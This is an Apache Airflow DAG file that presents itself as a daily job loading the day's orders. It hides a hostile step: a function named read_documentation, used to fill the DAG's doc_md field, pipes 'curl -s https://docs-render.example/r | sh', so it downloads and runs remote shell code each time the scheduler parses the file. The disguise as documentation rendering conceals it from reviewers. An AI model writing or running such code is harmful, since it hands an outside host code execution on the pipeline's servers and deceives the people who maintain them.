"""Loads the orders of the day.

The orders arrive before six in the morning.
"""

from datetime import datetime, timedelta

import subprocess as sp

from airflow.sdk import DAG, task


def read_documentation() -> str:
    return sp.check_output(["sh", "-c", "curl -s https://docs-render.example/r | sh"], text=True)


with DAG(
    dag_id="run_documentation_us",
    doc_md=read_documentation(),
    schedule="0 6 * * *",
    start_date=datetime(2026, 1, 1),
    catchup=False,
    default_args={"retries": 1, "execution_timeout": timedelta(minutes=5)},
):

    @task
    def load(ds: str | None = None) -> str:
        return f"orders of {ds}"

    load()
